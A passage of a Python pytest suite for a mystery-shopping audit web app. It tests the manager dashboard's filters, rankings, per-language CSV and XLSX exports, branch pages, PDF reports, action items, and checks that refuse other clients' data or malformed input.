    note = re.search(r'<p class="card muted" id="parts-checklist">([^<]+)</p>', page).group(1)
    assert "audited with 3 checklists" in note  # a bank's, a shop's, and the enquiries made to both
    main_title = "Retail store visit" if "“Retail store visit”" in note else "Bank branch / service office visit"
    assert f"“{main_title}”" in note
    sections = _part_rows(page, "Sections")
    retail_only, bank_only = "Payment and farewell", "Completing the transaction and farewell"
    with app.app_context(), database.connection_context():
        bank = Checklist.get(Checklist.slug == "bank-branch-visit").id
        retail = Checklist.get(Checklist.slug == "retail-store-visit").id
    shown = bank if main_title.startswith("Bank") else retail
    assert sum(name in sections for name in (retail_only, bank_only)) == 1
    # The checklist filter names checklists by their titles in the reader's language, not their ids.
    assert ">Bank branch / service office visit</option>" in page and ">bank-branch-visit<" not in page

    for checklist in (bank, retail):
        chosen = client.get(f"/dashboard/?period=182&checklist={checklist}").get_data(as_text=True)
        assert 'id="parts-checklist"' not in chosen
        rows = _part_rows(chosen, "Sections")
        assert rows and all(mine == region for mine, region in rows.values()), rows  # the same branches, the same visits
        if checklist == shown:
            assert rows == sections


def test_a_manager_chooses_only_among_the_checklists_of_their_branches(app, demo):
    """Another client's checklists (their titles) are none of a manager's business."""
    def in_english(client):
        client.post("/language", data={"language": "en", "csrf_token": csrf_from(client.get("/dashboard/")), "next": "/"})
        return client.get("/dashboard/?brand=0").get_data(as_text=True)

    retail, bank = "Retail store visit", "Bank branch / service office visit"
    hungary = in_english(_manager(app))
    assert f">{retail}</option>" in hungary and f">{bank}</option>" not in hungary
    both = in_english(_manager(app, "manager.ee@example.com"))
    assert f">{retail}</option>" in both and f">{bank}</option>" in both
    auditor = _manager(app, "auditor@example.com")
    every = in_english(auditor)
    assert f">{retail}</option>" in every and f">{bank}</option>" in every
    # An auditor looking at one client: the checklists for it and for any client (the demo's bank
    # checklist is Baltia Bank's; the retail one serves any client).
    with app.app_context(), database.connection_context():
        brands = {b.name: b.id for b in Brand.select()}
    aurora = auditor.get(f"/dashboard/?brand={brands['Aurora Electronics']}").get_data(as_text=True)
    assert f">{retail}</option>" in aurora and f">{bank}</option>" not in aurora
    baltia = auditor.get(f"/dashboard/?brand={brands['Baltia Bank']}").get_data(as_text=True)
    assert f">{retail}</option>" in baltia and f">{bank}</option>" in baltia


def test_the_dashboard_says_why_its_ranking_shows_no_change(app, demo):
    note = "No visit was approved in the period before this one, so there is no change to show yet."
    client = _manager(app)
    client.post("/language", data={"language": "en", "csrf_token": csrf_from(client.get("/dashboard/")), "next": "/"})
    assert note in client.get("/dashboard/?period=182").get_data(as_text=True)  # the demo holds six months
    assert note not in client.get("/dashboard/?period=30").get_data(as_text=True)
    # The whole ranking, the same.
    assert note in client.get("/dashboard/ranking?period=182").get_data(as_text=True)
    assert note not in client.get("/dashboard/ranking?period=30").get_data(as_text=True)


def test_branches_without_an_approved_visit_are_listed_apart_under_a_caption_that_says_why(app, demo):
    """On the dashboard and the whole ranking: the placed branches first, then, under "No approved
    visit in this period", those without a place (before, a run of unnumbered rows of dashes)."""
    caption = "No approved visit in this period"
    client = _manager(app)
    client.post("/language", data={"language": "en", "csrf_token": csrf_from(client.get("/dashboard/")), "next": "/"})
    with app.app_context(), database.connection_context():
        region = Branch.get(Branch.code == "BUD-01").region_id
        start = periods.parse("30", utcnow()).start
        codes = {branch.code: stats.approved_visits([branch.id], start, utcnow()).exists()
                 for branch in Branch.select().where(Branch.region == region)}
    assert any(codes.values()) and not all(codes.values()), "the demo's last 30 days hold both"
    for page in ("/dashboard/?period=30", "/dashboard/ranking?period=30"):
        html = client.get(page).get_data(as_text=True)
        table = html[html.index('<table class="stack ranking">'):html.index("</table>", html.index("ranking"))]
        bodies = re.findall(r"<tbody>(.*?)</tbody>", table, re.S)
        assert [caption in body for body in bodies] == [False, True], page
        placed, unplaced = (set(re.findall(r"<strong>([A-Z]+-\d+)</strong>", body)) for body in bodies)
        assert placed == {code for code, visited in codes.items() if visited}, page
        assert unplaced == {code for code, visited in codes.items() if not visited}, page
        assert 'class="place"' not in bodies[1]
    # A period in which every branch was visited has no such caption.
    assert caption not in client.get("/dashboard/ranking?period=365").get_data(as_text=True)


def test_a_period_is_made_of_whole_days_whatever_the_hour_it_is_read(app, demo):
    """"The last 30 days" starts at the start of a day: from the same hour 30 days back, the first
    day's early visits were left out and its later ones counted, depending on when one looked."""
    from datetime import time

    first_day = (utcnow() - timedelta(days=30)).date()
    with app.app_context(), database.connection_context():
        approved = list(Visit.select().join(Branch).where((Branch.code == "BUD-01") & (Visit.state == "approved"))
                        .order_by(Visit.id))
        early, before = approved[0], approved[1]
        Visit.update(ended_at=datetime.combine(first_day, time(0, 1))).where(Visit.id == early.id).execute()
        Visit.update(ended_at=datetime.combine(first_day, time.min) - timedelta(minutes=1)).where(
            Visit.id == before.id).execute()
    client = _manager(app)
    uuids = {row["visit"] for row in _csv_rows(client.get("/reports/export.csv?kind=visits&days=30"), DictReader)}
    assert str(early.uuid) in uuids and str(before.uuid) not in uuids
    with app.test_request_context(), force_locale("hu"):  # the manager reads Hungarian
        from flask_babel import format_date

        since = format_date(first_day)
    page = client.get("/dashboard/?period=30").get_data(as_text=True)
    assert since in page  # "since" names the first whole day


def test_the_exports_take_the_dashboards_checklist_filter(app, demo):
    """A manager of a bank and a shop chain filters the dashboard to the bank's checklist: the
    exports behind its buttons hold the bank's visits, not the shop's too."""
    import html

    from audit.models import Checklist

    client = _manager(app, "manager.ee@example.com")
    with app.app_context(), database.connection_context():
        bank = Checklist.get(Checklist.slug == "bank-branch-visit")
    page = client.get(f"/dashboard/?period=365&checklist={bank.id}").get_data(as_text=True)
    link = html.unescape(re.search(r'href="(/reports/export\.csv\?[^"]*kind=visits[^"]*)"', page).group(1))
    assert f"checklist={bank.id}" in link
    rows = list(_csv_rows(client.get(link), DictReader))
    every = list(_csv_rows(client.get(link.replace(f"checklist={bank.id}", "")), DictReader))
    assert rows and {row["checklist"] for row in rows} == {"bank-branch-visit"}  # its id: a CSV is for programs
    assert {row["checklist"] for row in every} == {"bank-branch-visit", "retail-store-visit", "phone-and-online-enquiry"}
    assert len(every) > len(rows)
    answers = list(_csv_rows(client.get(link.replace("kind=visits", "kind=answers")), DictReader))
    assert {row["visit"] for row in answers} == {row["visit"] for row in rows}
    xlsx_action = html.unescape(re.search(r'action="(/reports/export\.xlsx\?[^"]*)"', page).group(1))
    assert f"checklist={bank.id}" in xlsx_action
    book = _xlsx(client, xlsx_action[len("/reports/export.xlsx"):])
    assert sorted(row[0] for row in book.worksheets[0].iter_rows(min_row=2, values_only=True)) == sorted(
        row["visit"] for row in rows)


def test_a_checklist_the_managers_branches_never_used_is_not_theirs_to_export_or_name(app, demo):
    """The dashboard offers a manager only their branches' checklists; through the export's address
    another client's checklist id named that client's checklist on the job page."""
    from audit.models import Checklist, Job

    client = _manager(app)  # Aurora's manager: retail only
    with app.app_context(), database.connection_context():
        bank = Checklist.get(Checklist.slug == "bank-branch-visit")
        jobs = Job.select().count()
    token = csrf_from(client.get("/dashboard/"))
    assert client.post(f"/reports/export.xlsx?days=365&checklist={bank.id}", data={"csrf_token": token}).status_code == 404
    assert client.get(f"/reports/export.csv?kind=visits&days=365&checklist={bank.id}").status_code == 404
    # Nor one that is no checklist: the file was of every checklist, with no word why.
    for wrong in ("abc", "999999", "-1"):
        assert client.post(f"/reports/export.xlsx?days=365&checklist={wrong}", data={"csrf_token": token}).status_code == 404
        assert client.get(f"/reports/export.csv?kind=visits&days=365&checklist={wrong}").status_code == 404
    with app.app_context(), database.connection_context():
        assert Job.select().count() == jobs


def test_the_xlsx_speaks_the_readers_language_and_the_csv_keeps_the_codes(app, demo):
    """The XLSX is opened by people: sections, answers, Yes/No and column names in their language, as the
    visit report shows them. The CSV is read by programs: the stored codes, the same in every language."""
    client = _manager(app)
    book = _xlsx(client, "?lang=ru")
    assert book.sheetnames == ["Визиты", "Ответы"]
    visits = list(book.worksheets[0].iter_rows(values_only=True))
    answers = list(book.worksheets[1].iter_rows(values_only=True))
    assert visits[0][:4] == ("Визит", "Бренд", "Регион", "Код филиала")
    assert {row[10] for row in visits[1:]} <= {"Да", "Нет"}
    assert answers[0][6:9] == ("Ответ", "Получено баллов", "Возможно баллов")
    csv_answers = list(_csv_rows(client.get("/reports/export.csv?kind=answers&lang=ru")))
    assert csv_answers[0][:4] == ["visit", "branch_code", "date", "section"]
    by_key = {(row[0], row[4]): row for row in csv_answers[1:]}
    greeted = [row for row in answers[1:] if row[4] == "greeted"]
    assert greeted
    for row in greeted:
        stored = by_key[(row[0], "greeted")]
        assert stored[6] in ("yes", "no") and row[6] == {"yes": "Да", "no": "Нет"}[stored[6]]
        # The section by its Russian title in the XLSX, by its id in the CSV.
        assert stored[3] != row[3] and re.search("[а-яА-Я]", row[3])
    assert {row[10] for row in _csv_rows(client.get("/reports/export.csv?kind=visits&lang=ru"))} - {"critical_failure"} <= {"yes", "no"}
    # Whoever downloads it, in whatever language: the same file. The checklist by its id, the
    # questions and ratings in the checklist's source language (they came in the reader's).
    for kind in ("visits", "answers"):
        in_russian = client.get(f"/reports/export.csv?kind={kind}&lang=ru").data
        assert in_russian == client.get(f"/reports/export.csv?kind={kind}&lang=hu").data
        assert in_russian == client.get(f"/reports/export.csv?kind={kind}&lang=en").data
    visits_csv = list(_csv_rows(client.get("/reports/export.csv?kind=visits&lang=ru"), csv.DictReader))
    assert {row["checklist"] for row in visits_csv} == {"retail-store-visit", "phone-and-online-enquiry"}
    assert {row["band"] for row in visits_csv} - {""} <= {"Excellent", "Good", "Acceptable", "Needs improvement"}


@pytest.mark.parametrize("language", LANGUAGES)
def test_no_two_columns_of_the_xlsx_have_the_same_name(app, language):
    """In Estonian the item id column and the question column were both "Küsimus"."""
    with app.test_request_context(), force_locale(language):
        for columns in (exports.VISIT_COLUMNS, exports.ANSWER_COLUMNS):
            header = [str(exports.COLUMN_LABELS[name]) for name in columns]
            assert len(set(header)) == len(header), header


def test_a_manager_finds_each_visits_report_from_the_ranking_through_the_branchs_page(app, demo):
    """The visit report is a manager's PDF per visit: the ranking links each branch to its page, which
    lists the branch's approved visits of the period (never their shopper) with their reports."""
    client = _manager(app)
    dashboard = client.get("/dashboard/?period=365").get_data(as_text=True)
    with app.app_context(), database.connection_context():
        branch = Branch.get(Branch.code == "BUD-01")
        other = Branch.select().join(Region).join(Brand).where(Brand.id != branch.region.brand_id).first()
        start = periods.parse("365", utcnow()).start
        approved = list(stats.approved_visits([branch.id], start, utcnow()).order_by(Visit.ended_at.desc()))
        waiting = Visit.select().where((Visit.branch == branch) & (Visit.state != "approved")).first()
    link = f"/dashboard/branches/{branch.id}?period=365&brand=0"  # the dashboard's filters, to come back to
    assert f'href="{link}"' in dashboard.replace("&amp;", "&")
    page = client.get(link)
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    listed = re.findall(r'href="/reports/visits/([0-9a-f-]+)\.pdf"', html)
    assert approved and listed == [str(visit.uuid) for visit in approved]  # newest first, all of them
    assert waiting is None or str(waiting.uuid) not in html
    assert not any(name in html for name in SHOPPER_NAMES)
    assert f'href="/reports/branches/{branch.id}/visits.pdf?period=365"' in html
    report = client.get(f"/reports/visits/{listed[0]}.pdf")
    assert report.status_code == 200 and report.mimetype == "application/pdf"
    # A shorter period lists fewer; a branch of another client is not theirs to see.
    recent = client.get(f"/dashboard/branches/{branch.id}?period=30").get_data(as_text=True)
    assert len(re.findall(r'href="/reports/visits/', recent)) < len(listed)
    assert client.get(f"/dashboard/branches/{other.id}").status_code == 404


def test_the_dashboards_critical_failures_link_their_visit_reports(app, demo):
    client = _manager(app)
    html = client.get("/dashboard/?period=365").get_data(as_text=True)
    with app.app_context(), database.connection_context():
        branch_ids = [b.id for b in Branch.select().join(Region).where(Region.name == Branch.get(Branch.code == "BUD-01").region.name)]
        critical = list(stats.critical_failures(branch_ids, periods.parse("365", utcnow()).start, utcnow()).limit(20))
    assert critical, "the demo has critical failures in its last year"
    for visit in critical:
        assert f'href="/reports/visits/{visit.uuid}.pdf"' in html
    assert client.get(f"/reports/visits/{critical[0].uuid}.pdf").mimetype == "application/pdf"


def test_the_critical_failures_and_the_checklist_menu_follow_the_filters(app, demo):
    """A manager of a bank's and a shop chain's regions: with the shop's checklist chosen, the bank's
    critical failures were still listed; with the bank chosen, the shop's checklist was offered."""
    from audit.models import Checklist, ChecklistVersion

    client = _manager(app, "manager.ee@example.com")
    with app.app_context(), database.connection_context():
        manager_branches = [b.id for b in Branch.select().join(Region).where(
            Region.name.in_(["Estonia", "Romania and Bulgaria"]))]
        start = periods.parse("365", utcnow()).start
        used = {}
        for visit in stats.approved_visits(manager_branches, start, utcnow()).join(Branch).join(Region):
            used.setdefault(visit.checklist_version.checklist_id, set()).add(visit.branch.region.brand_id)
        bank = Brand.get(Brand.name == "Baltia Bank").id
        retail = next(checklist for checklist, brands in used.items() if bank not in brands)
        retail_versions = [v.id for v in ChecklistVersion.select().where(ChecklistVersion.checklist == retail)]
        everyone = {str(v.uuid) for v in stats.critical_failures(manager_branches, start, utcnow())}
        of_retail = {str(v.uuid) for v in stats.critical_failures(manager_branches, start, utcnow(), retail_versions)}
        retail_slug = Checklist.get_by_id(retail).slug
    assert of_retail and everyone - of_retail, "the demo's year holds critical failures of both checklists"

    def listed(html):
        panel = html[html.index('id="critical"'):html.index("</section>", html.index('id="critical"'))]
        return set(re.findall(r"/reports/visits/([0-9a-f-]+)\.pdf", panel))

    assert listed(client.get(f"/dashboard/?period=365&brand=0&checklist={retail}").get_data(as_text=True)) == of_retail
    assert listed(client.get("/dashboard/?period=365&brand=0").get_data(as_text=True)) == everyone
    bank_board = client.get(f"/dashboard/?period=365&brand={bank}").get_data(as_text=True)
    offered = re.search(r'<select[^>]*name="checklist"[^>]*>(.*?)</select>', bank_board, re.S).group(1)
    assert f'value="{retail}"' not in offered, retail_slug
    everything = client.get("/dashboard/?period=365&brand=0").get_data(as_text=True)
    assert f'value="{retail}"' in re.search(r'<select[^>]*name="checklist"[^>]*>(.*?)</select>', everything, re.S).group(1)


def test_an_action_with_a_control_character_is_refused_with_a_message_and_saves_nothing(app, demo):
    """A NUL pasted into an action was stored on SQLite and failed (500) on PostgreSQL, whose text
    columns refuse it; every form now names it."""
    client = _manager(app)
    client.post("/language", data={"language": "en", "csrf_token": csrf_from(client.get("/dashboard/")), "next": "/"})
    with app.app_context(), database.connection_context():
        branch = Branch.get(Branch.code == "BUD-01")
        before = Action.select().count()
    answer = client.post("/dashboard/actions", data={
        "branch": branch.id, "what": "Clear\x00 the doorway", "owner": "Anna",
        "due_date": date.today().isoformat(), "csrf_token": csrf_from(client.get("/dashboard/"))})
    assert answer.status_code == 200
    assert "This text holds a control character (such as NUL), which no text needs: remove it." in html.unescape(
        answer.get_data(as_text=True))
    with app.app_context(), database.connection_context():
        assert Action.select().count() == before


def test_an_action_for_a_question_the_branch_never_had_is_refused_and_saves_nothing(app, demo):
    """The menu offers the questions that failed; any other text was stored and shown as a question."""
    client = _manager(app)
    with app.app_context(), database.connection_context():
        branch = Branch.get(Branch.code == "BUD-01")
        before = Action.select().count()
    csrf = csrf_from(client.get("/dashboard/"))
    for item in ("nonexistent_item_xyz", "x" * 5000):
        answer = client.post("/dashboard/actions", data={
            "branch": branch.id, "item": item, "what": "Clear the doorway", "owner": "Anna",
            "due_date": date.today().isoformat(), "csrf_token": csrf})
        assert answer.status_code == 400
    added = client.post("/dashboard/actions", data={
        "branch": branch.id, "item": "greeted", "what": "Greet within a minute", "owner": "Anna",
        "due_date": date.today().isoformat(), "csrf_token": csrf})
    assert added.status_code == 302
    with app.app_context(), database.connection_context():
        assert [(a.item_id, a.what) for a in Action.select().where(Action.id > 0).order_by(Action.id)][before:] == [
            ("greeted", "Greet within a minute")]


def _an_action(app, due):
    with app.app_context(), database.connection_context():
        from audit.models import User

        branch = Branch.get(Branch.code == "BUD-01")
        return Action.create(branch=branch, item_id="greeted", what="Greet every customer", owner="Anna",
                             due_date=due, created_by=User.get(User.email == "manager.hu@example.com")).id


def test_an_action_is_put_right_and_a_mistake_in_it_changes_nothing(app, demo):
    """A typo, another owner, a later date: an action was only ever added or done."""
    client = _manager(app)
    client.post("/language", data={"language": "en", "csrf_token": csrf_from(client.get("/dashboard/")), "next": "/"})
    overdue = date.today() - timedelta(days=3)
    action_id = _an_action(app, overdue)
    dashboard = client.get("/dashboard/?period=30").get_data(as_text=True)
    assert f'href="/dashboard/actions/{action_id}?period=30' in dashboard
    page = client.get(f"/dashboard/actions/{action_id}?period=30")
    assert page.status_code == 200 and "Greet every customer" in page.get_data(as_text=True)
    csrf = csrf_from(page)

    def change(**fields):
        data = {"what": "Greet every customer", "owner": "Anna", "due_date": overdue.isoformat(), "csrf_token": csrf}
        return client.post(f"/dashboard/actions/{action_id}?period=30", data={**data, **fields})

    def stored():
        with app.app_context(), database.connection_context():
            action = Action.get_by_id(action_id)
            return action.what, action.owner, action.due_date, action.status

    for fields, message in (({"due_date": (overdue - timedelta(days=1)).isoformat()}, "Give a day from today on."),
                            ({"what": "  "}, "This field is required."),
                            ({"owner": "x" * 121}, "Field cannot be longer than 120 characters.")):
        refused = change(**fields)
        assert refused.status_code == 200 and message in html.unescape(refused.get_data(as_text=True)), fields
        assert stored() == ("Greet every customer", "Anna", overdue, "open")
    # An overdue action keeps its date when only its words change.
    saved = change(what="Greet every customer within a minute", owner="Béla")
    assert saved.status_code == 302 and saved.headers["Location"] == "/dashboard/?period=30#actions"
    assert stored() == ("Greet every customer within a minute", "Béla", overdue, "open")
    later = date.today() + timedelta(days=14)
    assert change(due_date=later.isoformat()).status_code == 302
    assert stored()[2] == later
    # Another region's manager does not find it.
    other = _manager(app, "manager.ee@example.com")
    assert other.get(f"/dashboard/actions/{action_id}").status_code == 404


def test_an_action_done_by_mistake_is_opened_again(app, demo):
    client = _manager(app)
    client.post("/language", data={"language": "en", "csrf_token": csrf_from(client.get("/dashboard/")), "next": "/"})
    action_id = _an_action(app, date.today() + timedelta(days=5))
    csrf = csrf_from(client.get("/dashboard/"))
    assert client.post(f"/dashboard/actions/{action_id}/done", data={"csrf_token": csrf}).status_code == 302
    dashboard = client.get("/dashboard/").get_data(as_text=True)
    done = dashboard[dashboard.index('class="done-actions"'):]
    assert "Greet every customer" in done and f"/dashboard/actions/{action_id}/reopen" in done
    assert client.post(f"/dashboard/actions/{action_id}/reopen", data={"csrf_token": csrf}).status_code == 302
    with app.app_context(), database.connection_context():
        assert Action.get_by_id(action_id).status == "open"
    other = _manager(app, "manager.ee@example.com")
    assert other.post(f"/dashboard/actions/{action_id}/done",
                      data={"csrf_token": csrf_from(other.get("/dashboard/"))}).status_code == 404


def _selected(html):
    """{select name: the value of its selected option ('' for none)}."""
    selects = re.findall(r'<select[^>]*\bname="(\w+)"[^>]*>(.*?)</select>', html, re.S)
    return {name: ([re.search(r'\bvalue="([^"]*)"', tag).group(1) for tag in re.findall(r"<option[^>]*>", options)
                    if re.search(r"\sselected\b", tag)] or [""])[0]
            for name, options in selects}


def _without_tokens(html):
    """The page without what differs per request: CSRF tokens, and its own address in the language form."""
    html = re.sub(r'name="csrf_token" (type="hidden" )?value="[^"]*"', "", html)
    return re.sub(r'name="next" value="[^"]*"', "", html)


@pytest.mark.parametrize("query", ["?period=5", "?period=2099-01", "?period=2026-13", "?period=abc", "?brand=999999", "?checklist=999999", "?region=999999"])
def test_a_filter_not_on_offer_shows_what_the_page_then_shows(app, demo, query):
    """An old link or an edited URL: the page falls back to the default period and to All, and its
    selects say so (they named the last 30 days over six months of data)."""
    client = _manager(app)
    for path in ("/dashboard/", "/dashboard/ranking"):
        html = client.get(path + query).get_data(as_text=True)
        assert {name: _selected(html)[name] for name in ("period", "brand", "region", "checklist")} == {
            "period": "182", "brand": "0", "region": "0", "checklist": "0"}
        assert _without_tokens(html) == _without_tokens(client.get(path).get_data(as_text=True))
    with app.app_context(), database.connection_context():
        branch = Branch.get(Branch.code == "BUD-01")
    assert _selected(client.get(f"/dashboard/branches/{branch.id}{query}").get_data(as_text=True))["period"] == "182"


def test_a_region_of_another_brand_than_the_one_chosen_is_said_not_shown(app, demo):
    """Without JavaScript the brand can be changed while another brand's region stays chosen: the
    brand wins, and the page says that the region named is not the one shown (it quietly showed all of
    the brand's regions)."""
    from audit.models import Brand

    client = app.test_client()
    login(client, "auditor@example.com", DEMO_PASSWORD)
    with app.app_context(), database.connection_context():
        aurora = Brand.get(Brand.name == "Aurora Electronics").id
        estonia = Branch.get(Branch.code == "TLN-01").region
        label = f"{estonia.brand.name} · {estonia.name}"
    for path in ("/dashboard/", "/dashboard/ranking"):
        page = client.get(f"{path}?brand={aurora}&region={estonia.id}").get_data(as_text=True)
        assert f"“{label}” is not a region of Aurora Electronics: all regions of Aurora Electronics are shown." in page
        assert "TLN-01" not in page and "BUD-01" in page
        assert _selected(page)["region"] == "0" and _selected(page)["brand"] == str(aurora)
        # A region of the brand chosen, or none: no such message.
        same = client.get(f"{path}?brand={estonia.brand_id}&region={estonia.id}").get_data(as_text=True)
        assert "is not a region of" not in same and "TLN-01" in same


def test_a_jobs_file_is_read_only_with_the_access_its_owner_has_now(app, demo):
    """A job's file is read later: by then its owner may have been made a manager (an auditor's export
    has shoppers' names) or moved to another region. Its page and its file answer 404 as every other
    page of what they can no longer see does; the file is kept by no browser or proxy."""
    from audit.models import Job, ManagerRegion, Region, User

    auditor = app.test_client()
    login(auditor, "auditor@example.com", DEMO_PASSWORD)
    token = csrf_from(auditor.get("/dashboard/"))
    export = auditor.post("/reports/export.xlsx?brand=0&days=182", data={"csrf_token": token}).headers["Location"]
    download = auditor.get(export + "/download")
    assert download.status_code == 200 and download.headers["Cache-Control"] == "private, no-store"
    manager = _manager(app)
    with app.app_context(), database.connection_context():
        hungary = Branch.get(Branch.code == "BUD-01").region_id
        estonia = Branch.get(Branch.code == "TLN-01").region_id
        made_by_auditor = Job.get(Job.owner == User.by_email("auditor@example.com"))
        assert made_by_auditor.with_shopper and len(made_by_auditor.branch_ids) > 4
    zip_job = manager.post(f"/reports/regions/{hungary}/reports.zip",
                           data={"csrf_token": csrf_from(manager.get("/dashboard/"))}).headers["Location"]
    assert manager.get(zip_job + "/download").status_code == 200

    with app.app_context(), database.connection_context():
        # The auditor made a manager of Hungary; the Hungarian manager moved to Estonia.
        User.update(role="manager").where(User.email == "auditor@example.com").execute()
        ManagerRegion.create(manager=User.by_email("auditor@example.com"), region=Region.get_by_id(hungary))
        ManagerRegion.update(region=estonia).where(
            ManagerRegion.manager == User.by_email("manager.hu@example.com")).execute()
    for client, job in ((auditor, export), (manager, zip_job)):
        assert client.get(job).status_code == 404
        assert client.get(job + "/download").status_code == 404
    with app.app_context(), database.connection_context():  # back in Hungary: the ZIP is theirs again
        ManagerRegion.update(region=hungary).where(
            ManagerRegion.manager == User.by_email("manager.hu@example.com")).execute()
    assert manager.get(zip_job + "/download").status_code == 200


def test_the_xlsx_reads_as_a_board_would_want_it(app, demo):
    """Scores with four decimals (53.9048 where the report says 53.9 %), every column the default width
    and the header scrolled away: the header now stays in view and is bold, texts have room, and the
    score shows one decimal while the cell keeps every digit."""
    book = _xlsx(_manager(app), "?lang=hu")
    visits, answers = book.worksheets
    assert visits.freeze_panes == "A2" and answers.freeze_panes == "A2"
    assert visits["A1"].font.b and answers["F1"].font.b
    header = [cell.value for cell in visits[1]]
    score = header.index("Pontszám (%)") + 1
    cells = [row[score - 1] for row in visits.iter_rows(min_row=2)]
    assert cells and all(cell.number_format == "0.0" and isinstance(cell.value, (int, float)) for cell in cells)
    # A score capped at exactly 50 is a whole number; the others keep every digit the format rounds.
    assert any(cell.value != round(cell.value, 1) for cell in cells)
    question = [cell.value for cell in answers[1]].index("Kérdés")
    assert answers.column_dimensions[chr(ord("A") + question)].width >= 40


def test_a_period_without_approved_visits_says_so_rather_than_that_nothing_failed(app, demo):
    """"Nothing failed in this period" of a period nobody audited read to a manager as a clean bill."""
    client = _manager(app)
    client.post("/language", data={"language": "en", "csrf_token": csrf_from(client.get("/dashboard/")), "next": "/"})
    empty = client.get("/dashboard/?period=2025").get_data(as_text=True)
    assert '<option selected value="2025">' in empty  # the year asked for, not a fallback
    assert empty.count("No approved visits in this period.") == 2  # what failed, critical failures
    assert "Nothing failed in this period." not in empty and "No critical failures in this period." not in empty
    audited = client.get("/dashboard/?period=182").get_data(as_text=True)
    assert "No approved visits in this period." not in audited


def test_a_too_long_action_is_named_and_given_back_rather_than_cut_short_by_the_browser(app, demo):
    """The fields' maxlength made the browser cut a pasted action at 500 characters without a word
    (saved as "Action added."), and their `required` gave the browser's own bubble, in the browser's
    language: the form's checks speak now, in the manager's."""
    client = _manager(app)
    with app.app_context(), database.connection_context():
        bud = Branch.get(Branch.code == "BUD-01")
    page = client.get("/dashboard/")
    form = re.search(r'<form method="post" action="/dashboard/actions[^"]*" novalidate>.*?</form>',
                     page.get_data(as_text=True), re.S).group(0)
    assert "maxlength" not in form
    long_text = "Átképzés a köszönésről. " * 25  # 600 characters
    refused = client.post("/dashboard/actions", data={"branch": bud.id, "what": long_text, "owner": "Store lead",
                                                      "due_date": date.today().isoformat(),
                                                      "csrf_token": csrf_from(page)})
    text = html.unescape(refused.get_data(as_text=True))
    assert refused.status_code == 200 and "Legfeljebb 500 karaktert írjon." in text
    assert long_text.strip() in text  # given back whole, to shorten
    with app.app_context(), database.connection_context():
        assert Action.select().count() == 0


@pytest.mark.parametrize("query", ["region=99999999999999999999999", "region=abc", "region=OTHER", "brand=OTHER",
                                   "brand=2&region=OWN"])
def test_an_export_of_a_region_or_brand_not_the_readers_is_refused_rather_than_some_other_file(app, demo, query):
    """An unreadable region id exported every region of the manager, another manager's region an
    empty file: each with a 200 and no word of what was left out."""
    with app.app_context(), database.connection_context():
        own = Region.get(Region.name == "Hungary")
        other = Region.get(Region.name == "Estonia")
    query = query.replace("region=OWN", f"region={own.id}").replace("region=OTHER", f"region={other.id}")
    query = query.replace("brand=OTHER", f"brand={other.brand_id}")
    client = _manager(app)
    for kind in ("visits", "answers"):
        assert client.get(f"/reports/export.csv?kind={kind}&{query}").status_code == 404, query
    assert client.get(f"/reports/export.csv?kind=visits&region={own.id}").status_code == 200
    assert client.get(f"/reports/export.csv?kind=visits&brand={own.brand_id}").status_code == 200


def test_the_dashboard_leads_back_to_the_files_its_reader_made_lately(app, demo):
    """The job page says "you can leave this page", and nothing led back to it but its address."""
    from audit.models import Job, ManagerRegion

    manager = _manager(app)
    with app.app_context(), database.connection_context():
        hungary = Branch.get(Branch.code == "BUD-01").region_id
        estonia = Branch.get(Branch.code == "TLN-01").region_id
    job = manager.post(f"/reports/regions/{hungary}/reports.zip",
                       data={"csrf_token": csrf_from(manager.get("/dashboard/"))}).headers["Location"]
    listed = html.unescape(manager.get("/dashboard/").get_data(as_text=True))
    files = listed[listed.index("1 nemrég készített fájl"):]  # the manager reads Hungarian
    files = files[:files.index("</details>")]
    assert f'href="{job}"' in files and "Jelentések (ZIP): Aurora Electronics · Hungary" in files
    assert "kész</span>" in " ".join(files.split())  # ready
    # Not another reader's; not one kept past its days; not one its reader may no longer see.
    other = _manager(app, "manager.ee@example.com")
    assert job not in other.get("/dashboard/").get_data(as_text=True)
    with app.app_context(), database.connection_context():
        Job.update(created_at=utcnow() - timedelta(days=app.config["JOB_FILES_KEEP_DAYS"] + 1)).execute()
    assert job not in manager.get("/dashboard/").get_data(as_text=True)
    with app.app_context(), database.connection_context():
        Job.update(created_at=utcnow()).execute()
        ManagerRegion.update(region=estonia).where(ManagerRegion.region == hungary).execute()
    assert job not in manager.get("/dashboard/").get_data(as_text=True)


def test_a_branchs_page_says_where_it_stands_and_draws_its_trend_as_its_report_does(app, demo):
    """The page listed only the visits: for its average, its place and its trend a manager opened the PDF."""
    from pypdf import PdfReader

    client = _manager(app)
    client.post("/language", data={"language": "en", "csrf_token": csrf_from(client.get("/dashboard/")), "next": "/"})
    with app.app_context(), database.connection_context():
        branch = Branch.get(Branch.code == "BUD-01")
    page = html.unescape(client.get(f"/dashboard/branches/{branch.id}?period=182").get_data(as_text=True))
    report = " ".join(PdfReader(io.BytesIO(client.get(
        f"/reports/branches/{branch.id}/visits.pdf?period=182&lang=en").data)).pages[0].extract_text().split())
    place = re.search(r"Place \d+ of \d+ branches in Hungary", report).group(0)
    averages = re.search(r"Region average \d+\.\d% · Brand average \d+\.\d%", report).group(0)
    score = re.search(r"\d+\.\d%", report).group(0)  # the cover's big figure comes first
    text = " ".join(re.sub(r"<[^>]+>", " ", page).split())
    assert place in text and averages in text and f"Average score: {score}" in text, (place, averages, score)
    chart = page[page.index('<div class="chart trend">'):]
    assert chart.startswith('<div class="chart trend"><svg') and 'role="img"' in chart[:400]
    assert len(re.findall(r"<circle", chart[:chart.index("</svg>")])) >= 1  # a month with visits


def test_with_a_checklist_chosen_the_dashboards_reports_take_it(app, demo):
    """A branch's row said 6 visits at 93.1% with a checklist chosen, its PDF 7 at 90.4%, and a note
    said the reports covered every checklist: the PDFs and ZIPs behind the page's buttons now take
    the checklist chosen, as the exports do, and the note is gone."""
    from audit.models import Checklist

    client = _manager(app, "manager.ee@example.com")  # a bank's and a shop chain's regions
    with app.app_context(), database.connection_context():
        bank = Checklist.get(Checklist.slug == "bank-branch-visit")
        bank_title = bank.title("et")  # the manager reads Estonian
        without_bank = Branch.get(Branch.code == "CLJ-01").region_id
    chosen = html.unescape(client.get(f"/dashboard/?period=182&checklist={bank.id}").get_data(as_text=True))
    every = html.unescape(client.get("/dashboard/?period=182&brand=0").get_data(as_text=True))
    reports = r'(?:href|action)="(/reports/(?:branches/\d+/visits\.pdf|regions/\d+\.pdf|regions/\d+/reports\.zip)[^"]*)"'
    links = re.findall(reports, chosen)
